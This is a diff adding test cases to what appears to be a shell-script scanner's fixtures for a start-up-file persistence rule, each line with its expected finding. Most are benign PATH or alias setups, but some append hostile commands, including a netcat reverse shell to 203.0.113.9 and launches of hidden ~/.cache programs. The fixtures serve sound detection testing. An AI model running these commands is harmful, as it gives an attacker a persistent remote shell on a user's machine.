@@ -17,3 +17,20 @@ echo 'eval "$(/home/linuxbrew/.linuxbrew/bin/brew shellenv)"' >> ~/.bashrc  # wa
 echo '[[ -f ~/.bash-preexec.sh ]] && source ~/.bash-preexec.sh' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
 echo 'export NODE_ENV=development' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
 echo "alias ll='ls -la'" >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
+# a version manager's PATH line behind a check that runs nothing
+echo 'command -v rbenv >/dev/null 2>&1 || export PATH="$HOME/.rbenv/bin:$PATH"' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
+echo '[ -d "$HOME/.acme/bin" ] && export PATH="$HOME/.acme/bin:$PATH"' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
+echo 'type acme &>/dev/null && alias ac="acme --color"' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
+cat >> ~/.profile <<'EOF2'  # want "medium SV602: persistence: appends configuration to ~/.profile"
+if [ -d "$HOME/.acme/bin" ]; then
+  PATH="$HOME/.acme/bin:$PATH"
+fi
+EOF2
+# the same setup shapes with a program run after them
+echo 'export PATH="$HOME/.acme/bin:$PATH"; nc -e /bin/sh 203.0.113.9 4444' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
+echo 'command -v acme >/dev/null || ~/.cache/.acme/run &' >> ~/.zshrc  # want "high SV602: persistence: modifies the shell start-up file"
+echo 'PATH="$HOME/.acme/bin:$PATH" ~/.cache/.acme/agent' >> ~/.zshrc  # want "high SV602: persistence: modifies the shell start-up file"
+echo 'alias ll="ls -la"; python3 ~/.cache/.p.py' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
+echo 'export ACME_HOME=~/.acme && ~/.acme/bin/sync --daemon' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
+echo '[ -d "$(python3 ~/.cache/x.py)" ] && export A=1' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
+echo 'source ~/.acme/env | sh' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
